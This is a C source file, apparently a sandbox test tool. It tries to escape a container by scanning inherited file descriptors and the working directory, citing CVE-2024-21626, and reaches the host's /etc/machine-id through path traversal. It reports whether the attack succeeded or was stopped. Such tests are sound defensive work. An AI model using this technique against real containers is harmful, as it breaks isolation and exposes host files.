/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * origin.c: what a program that enters a place was born with (origin.h), and what can be had by it: a descriptor of a directory of the
 * host's leads to all of the host's files.
 *
 *   origin            tells it
 *   origin escape     reads a file of the host's through what it was born with
 */
#include "origin.h"
#include <fcntl.h>

/* True: this is not the place's own /etc/machine-id. */
static int read_foreign(int fd, const char *own) {
        char text[64] = "";
        ssize_t n = read(fd, text, sizeof(text) - 1);

        close(fd);
        return n > 0 && strncmp(text, own, 32) != 0;
}

static int escape_by(int directory, const char *own) {
        static const char *const paths[] = { "etc/machine-id", "../etc/machine-id", "machine-id",
                                             "../../../../../../etc/machine-id" };

        for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
                int fd = openat(directory, paths[i], O_RDONLY | O_CLOEXEC);

                if (fd >= 0 && read_foreign(fd, own)) {
                        say("descriptor %d: read the host's %s", directory, paths[i]);
                        return ATTACK_SUCCEEDED;
                }
        }
        return ATTACK_STOPPED;
}

static int escape(void) {
        char own[64] = "";
        int fd = open("/etc/machine-id", O_RDONLY | O_CLOEXEC);

        if (fd < 0 || read(fd, own, sizeof(own) - 1) < 32) {
                broken("/etc/machine-id");
        }
        close(fd);
        if (escape_by(AT_FDCWD, own) == ATTACK_SUCCEEDED) {
                return ATTACK_SUCCEEDED;
        }
        for (fd = 0; fd < 1024; fd++) {
                char path[64];

                if (escape_by(fd, own) == ATTACK_SUCCEEDED) {
                        return ATTACK_SUCCEEDED;
                }
                snprintf(path, sizeof(path), "/proc/self/fd/%d",
                         fd); /* CVE-2024-21626: the working directory */
                if (chdir(path) == 0 && escape_by(AT_FDCWD, own) == ATTACK_SUCCEEDED) {
                        return ATTACK_SUCCEEDED;
                }
        }
        say("no directory among the descriptors 0 to 1023, none behind the working directory");
        return ATTACK_STOPPED;
}

int main(int argc, char **argv) {
        if (argc > 1 && strcmp(argv[1], "escape") == 0) {
                return escape();
        }
        origin(stdout);
        return 0;
}
